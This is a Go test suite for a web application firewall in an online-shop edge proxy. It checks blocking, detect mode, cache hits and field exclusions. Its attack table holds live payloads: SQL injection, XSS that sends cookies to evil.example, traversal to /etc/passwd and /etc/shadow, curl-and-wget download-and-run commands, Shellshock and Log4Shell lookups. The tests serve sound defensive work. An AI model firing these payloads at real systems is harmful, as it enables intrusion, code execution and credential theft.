package edge

import (
	"bytes"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"agora/internal/edge/waf"
)

// attack is one request a firewall must refuse: a real payload placed
// where a shopper's browser or an API client puts data.
type attack struct {
	name, method, path string
	header             http.Header
	contentType, body  string
}

func attackTable() []attack {
	q := url.QueryEscape
	form := "application/x-www-form-urlencoded"
	js := "application/json"
	return []attack{
		// SQL injection
		{name: "sqli in query", method: "GET", path: "/search?q=" + q("1' OR '1'='1' --")},
		{name: "sqli union in query", method: "GET", path: "/categories/shoes?sort=" + q("price UNION SELECT email, password_hash FROM customers--")},
		{name: "sqli in form body", method: "POST", path: "/cart/items", contentType: form, body: "variant_id=" + q("1; DROP TABLE orders; --") + "&quantity=1"},
		{name: "sqli in json body", method: "POST", path: "/api/v1/cart/items", contentType: js, body: `{"variant_id":"1' UNION SELECT password_hash FROM staff--","quantity":1}`},
		{name: "sqli in cookie", method: "GET", path: "/account", header: http.Header{"Cookie": {"agora_session=' OR 1=1 UNION SELECT 1,2,3--"}}},
		{name: "sqli in referer", method: "GET", path: "/account", header: http.Header{"Referer": {"http://shop.test/?id=1' UNION SELECT email FROM customers WHERE '1'='1"}}},
		// Cross-site scripting
		{name: "xss in query", method: "GET", path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
		{name: "xss in form body", method: "POST", path: "/account/register", contentType: form, body: "email=a%40example.com&name=" + q(`<img src=x onerror=alert(1)>`) + "&password=secret123"},
		{name: "xss in json body", method: "POST", path: "/api/v1/customers", contentType: js, body: `{"email":"a@example.com","name":"<svg/onload=alert(1)>","password":"secret123"}`},
		{name: "xss in checkout address", method: "POST", path: "/checkout", contentType: form, body: "email=a%40example.com&shipping_address.line1=" + q(`<script>fetch('//evil.example/'+document.cookie)</script>`)},
		{name: "xss in user-agent", method: "GET", path: "/products/tee", header: http.Header{"User-Agent": {"<script>alert(1)</script>"}}},
		{name: "xss in referer", method: "GET", path: "/products/tee", header: http.Header{"Referer": {`http://shop.test/"><script>alert(1)</script>`}}},
		{name: "xss in cookie", method: "GET", path: "/cart", header: http.Header{"Cookie": {"theme=<script>alert(1)</script>"}}},
		// Path traversal
		{name: "traversal in path", method: "GET", path: "/media/..%2f..%2f..%2f..%2fetc%2fpasswd"},
		{name: "traversal in query", method: "GET", path: "/media/image?file=" + q("../../../../etc/passwd")},
		{name: "traversal in form body", method: "POST", path: "/account/addresses", contentType: form, body: "label=" + q("../../../../../etc/shadow")},
		// Command injection
		{name: "rce in query", method: "GET", path: "/search?q=" + q(";cat /etc/passwd")},
		{name: "rce in form body", method: "POST", path: "/cart/items", contentType: form, body: "variant_id=1&note=" + q("$(curl http://evil.example/x.sh | sh)")},
		{name: "rce in json body", method: "POST", path: "/api/v1/checkout", contentType: js, body: `{"email":"a@example.com","discount_code":"; wget http://evil.example/x -O /tmp/x; sh /tmp/x"}`},
		{name: "rce in header", method: "GET", path: "/products/tee", header: http.Header{"User-Agent": {"() { :; }; /bin/bash -c 'cat /etc/passwd'"}}},
		// Log4Shell (CVE-2021-44228) lookups
		{name: "log4shell in header", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
		{name: "log4shell in user-agent", method: "GET", path: "/products/tee", header: http.Header{"User-Agent": {"${jndi:ldap://evil.example:1389/Exploit}"}}},
		{name: "log4shell in query", method: "GET", path: "/search?q=" + q("${jndi:rmi://evil.example/a}")},
		{name: "log4shell in json body", method: "POST", path: "/api/v1/session", contentType: js, body: `{"email":"${jndi:ldap://evil.example/a}","password":"x"}`},
		{name: "log4shell in cookie", method: "GET", path: "/cart", header: http.Header{"Cookie": {"agora_session=${jndi:ldap://evil.example/a}"}}},
	}
}

// wafOrigin is an app stand-in that records what reached it: pages are
// public and cacheable unless noStore, writes answer JSON.
type wafOrigin struct {
	*origin
	noStore bool
	mu      sync.Mutex      // protects bodies
	bodies  map[string]bool // request bodies received
}

func newWAFOrigin(t *testing.T, noStore bool) *wafOrigin {
	o := &wafOrigin{bodies: map[string]bool{}, noStore: noStore}
	o.origin = newOrigin(t, func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		o.mu.Lock()
		o.bodies[string(b)] = true
		o.mu.Unlock()
		if r.Method == http.MethodGet {
			w.Header().Set("Cache-Control", "public, max-age=600")
			if o.noStore {
				w.Header().Set("Cache-Control", "no-store")
			}
			io.WriteString(w, "<p>page "+r.URL.Path+"</p>")
			return
		}
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"ok":true}`)
	})
	return o
}

func (o *wafOrigin) got(body string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.bodies[body]
}

// wafEdge is an edge with a firewall in mode, served on a loopback h1
// server with its fast path, and its log.
func wafEdge(t *testing.T, mode waf.Mode, o *wafOrigin) (*Edge, string, *syncLog) {
	t.Helper()
	e, _ := newEdge(t, o.URL)
	logs := &syncLog{}
	e.Log = slog.New(slog.NewJSONHandler(logs, nil))
	fw, err := waf.New(waf.Config{Mode: mode, Log: e.Log})
	if err != nil {
		t.Fatal(err)
	}
	e.WAF = fw
	addr, _ := serveH1(t, e, true)
	return e, "http://" + addr, logs
}

type syncLog struct {
	mu  sync.Mutex // protects buf
	buf bytes.Buffer
}

func (l *syncLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

func (l *syncLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.String()
}

func send(t *testing.T, base string, a attack) (*http.Response, string) {
	t.Helper()
	var rd io.Reader
	if a.body != "" {
		rd = strings.NewReader(a.body)
	}
	req, err := http.NewRequest(a.method, base+a.path, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Host = "shop.test"
	for k, v := range a.header {
		req.Header[k] = v
	}
	if a.contentType != "" {
		req.Header.Set("Content-Type", a.contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// TestWAFBlocksTheAttackTable: in block mode every attack gets a 403 that
// names its request id (a page, or JSON under /api/), never reaches the
// app, and is logged with that id and the rule ids, without the cookie
// values or passwords it carried.
func TestWAFBlocksTheAttackTable(t *testing.T) {
	o := newWAFOrigin(t, false)
	e, base, logs := wafEdge(t, waf.Block, o)
	for _, a := range attackTable() {
		t.Run(a.name, func(t *testing.T) {
			before := o.hits.Load()
			resp, body := send(t, base, a)
			id := resp.Header.Get("X-Request-Id")
			if resp.StatusCode != http.StatusForbidden || id == "" || !strings.Contains(body, id) {
				t.Fatalf("status %d, X-Request-Id %q, body %q; want 403 naming the request id", resp.StatusCode, id, body)
			}
			if o.hits.Load() != before {
				t.Errorf("the attack reached the app")
			}
			if resp.Header.Get("Cache-Control") != "no-store" {
				t.Errorf("Cache-Control %q", resp.Header.Get("Cache-Control"))
			}
			if strings.HasPrefix(a.path, "/api/") {
				var v struct {
					Error struct{ Code, RequestID string } `json:"error"`
				}
				if err := json.Unmarshal([]byte(body), &v); err != nil || v.Error.Code != "forbidden" || !strings.Contains(resp.Header.Get("Content-Type"), "json") {
					t.Errorf("API refusal is not the API's JSON error: %v %q", err, body)
				}
			} else if !strings.Contains(resp.Header.Get("Content-Type"), "text/html") || !strings.Contains(body, "<h1>Request refused</h1>") {
				t.Errorf("not the refusal page: %q", body)
			}
			line := logLine(t, logs.String(), id)
			if line == nil || line["msg"] != "waf: blocked request" || len(line["rule_ids"].([]any)) == 0 {
				t.Errorf("log line for %s: %v", id, line)
			}
		})
	}
	if n := e.WAF.Counts(); n.Blocked != uint64(len(attackTable())) {
		t.Errorf("counts %+v, want %d blocked", n, len(attackTable()))
	}
	for _, secret := range []string{"secret123", "agora_session=", "jndi", "<script>"} {
		if strings.Contains(logs.String(), secret) {
			t.Errorf("the log holds %q:\n%s", secret, logs.String())
		}
	}
}

// TestWAFDetectModeForwards: in detect mode the same attacks reach the
// app, bodies whole, and each is logged once. (The pages are not stored,
// so that each request is a miss: a hit is never inspected.)
func TestWAFDetectModeForwards(t *testing.T) {
	o := newWAFOrigin(t, true)
	e, base, logs := wafEdge(t, waf.Detect, o)
	for _, a := range attackTable() {
		resp, _ := send(t, base, a)
		if resp.StatusCode != http.StatusOK {
			t.Errorf("%s: status %d, want the app's 200", a.name, resp.StatusCode)
		}
		if a.body != "" && !o.got(a.body) {
			t.Errorf("%s: the app did not get the body whole", a.name)
		}
	}
	n := e.WAF.Counts()
	if n.Blocked != 0 || n.Detected != uint64(len(attackTable())) {
		t.Errorf("counts %+v, want %d detected, none blocked", n, len(attackTable()))
	}
	if got := strings.Count(logs.String(), "detect mode: forwarded"); got != len(attackTable()) {
		t.Errorf("%d detect log lines, want %d", got, len(attackTable()))
	}
}

// TestWAFNeverSeesAHit: once a page is stored, its hits — on the fast path
// and on the ordinary one — are answered without the firewall, which
// inspects the miss that stored it only; an attack-looking cookie on a hit
// reaches nobody, so it is served like any hit.
func TestWAFNeverSeesAHit(t *testing.T) {
	o := newWAFOrigin(t, false)
	e, base, _ := wafEdge(t, waf.Block, o)
	page := attack{method: "GET", path: "/products/tee"}
	if resp, _ := send(t, base, page); resp.StatusCode != 200 || isHit(resp) {
		t.Fatalf("first request: %d %q", resp.StatusCode, resp.Header.Get("Cache-Status"))
	}
	if n := e.WAF.Counts().Inspected; n != 1 {
		t.Fatalf("the miss: %d inspected, want 1", n)
	}
	hits := []attack{
		page, // fast path
		{method: "GET", path: "/products/tee", header: http.Header{"Cache-Control": {"max-stale=10"}}}, // ordinary path
		{method: "HEAD", path: "/products/tee"},
		{method: "GET", path: "/products/tee", header: http.Header{"Cookie": {"theme=<script>alert(1)</script>"}}},
	}
	for range 50 {
		for _, h := range hits {
			if resp, _ := send(t, base, h); !isHit(resp) {
				t.Fatalf("%v: %d %q, want a hit", h.header, resp.StatusCode, resp.Header.Get("Cache-Status"))
			}
		}
	}
	if n := e.WAF.Counts().Inspected; n != 1 {
		t.Errorf("after 200 hits: %d inspected, want 1 (the miss)", n)
	}
	if o.hits.Load() != 1 {
		t.Errorf("origin hits %d, want 1", o.hits.Load())
	}
}

// TestWAFLetsTheStoresOwnFormsThrough: the default exclusions let the
// store's own misfiring fields through, and only them.
func TestWAFLetsTheStoresOwnFormsThrough(t *testing.T) {
	o := newWAFOrigin(t, false)
	_, base, _ := wafEdge(t, waf.Block, o)
	q := url.QueryEscape
	form := "application/x-www-form-urlencoded"
	pw := `P@ss'word"1<>`
	for _, a := range []attack{
		{name: "login password", method: "POST", path: "/account/login", contentType: form, body: "email=kim%40example.com&password=" + q(pw)},
		{name: "register password", method: "POST", path: "/account/register", contentType: form, body: "email=kim%40example.com&name=Kim&password=" + q(pw)},
		{name: "api login", method: "POST", path: "/api/v1/session", contentType: "application/json", body: `{"email":"kim@example.com","password":"P@ss'word\"1<>"}`},
		{name: "staff login", method: "POST", path: "/admin/login", contentType: form, body: "email=o%40example.com&password=" + q("' OR ''='")},
		{name: "product description", method: "POST", path: "/admin/products/7", contentType: form,
			body: "name=Tee&description=" + q(`<p>Soft <b>organic</b> cotton; <a href="https://example.com/care?x=1&y=2">care guide</a>. Don't tumble-dry — "select" the wool cycle or DROP it at 30°C.</p><script>/* not ours */</script>`)},
		{name: "api product description", method: "PATCH", path: "/api/v1/admin/products/7", contentType: "application/json",
			body: `{"description":"<h2>Fit</h2><p>It's cut 'slim' -- size up; <i>select</i> from 1=1 sizes</p><img src=\"/media/a.jpg\" onerror=\"x\">"}`},
		{name: "checkout address", method: "POST", path: "/checkout", contentType: form,
			body: "email=kim%40example.com&shipping_address.name=" + q("Seán O'Brien") + "&shipping_address.line1=" + q("Flat 2; 3rd floor, 1 O'Connell St. & Co") + "&shipping_address.city=Dublin"},
	} {
		if resp, body := send(t, base, a); resp.StatusCode != http.StatusOK {
			t.Errorf("%s: %d %s", a.name, resp.StatusCode, body)
		}
	}
	// The same password outside a login form is inspected.
	a := attack{method: "POST", path: "/cart/items", contentType: form, body: "variant_id=1&note=" + q("' OR ''='")}
	if resp, _ := send(t, base, a); resp.StatusCode != http.StatusForbidden {
		t.Errorf("an injection outside the excluded fields: %d, want 403", resp.StatusCode)
	}
}

// logLine finds the JSON log line that names request id.
func logLine(t *testing.T, logs, id string) map[string]any {
	t.Helper()
	for l := range strings.SplitSeq(logs, "\n") {
		if !strings.Contains(l, `"request_id":"`+id+`"`) {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatal(err)
		}
		return m
	}
	return nil
}
